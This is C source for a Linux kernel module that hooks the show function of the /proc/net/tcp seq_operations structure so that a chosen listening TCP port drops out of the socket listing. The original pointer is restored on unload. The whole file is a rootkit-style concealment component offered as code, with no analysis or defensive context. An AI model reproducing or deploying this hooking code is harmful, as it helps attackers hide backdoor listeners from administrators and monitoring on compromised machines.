/* The list of TCP sockets in /proc/net/tcp leaves out one port: its seq_operations lead into this module. */
#include <linux/seq_file.h>
#include <net/inet_sock.h>
#include <net/tcp.h>
#include "tamper.h"

static unsigned long operations;
module_param(operations, ulong, 0);
static ushort port;
module_param(port, ushort, 0);

static int (*show)(struct seq_file *file, void *value);

static int show_others(struct seq_file *file, void *value)
{
	struct sock *sk = value;

	if (value != SEQ_START_TOKEN && sk->sk_state == TCP_LISTEN && inet_sk(sk)->inet_num == port)
		return SEQ_SKIP;
	return show(file, value);
}

static int __init begin(void)
{
	if (!operations)
		return -EINVAL;
	show = ((struct seq_operations *)operations)->show;
	exchange_word((unsigned long)&((struct seq_operations *)operations)->show, (u32)show_others);
	return 0;
}

static void __exit end(void)
{
	exchange_word((unsigned long)&((struct seq_operations *)operations)->show, (u32)show);
}

module_init(begin);
module_exit(end);
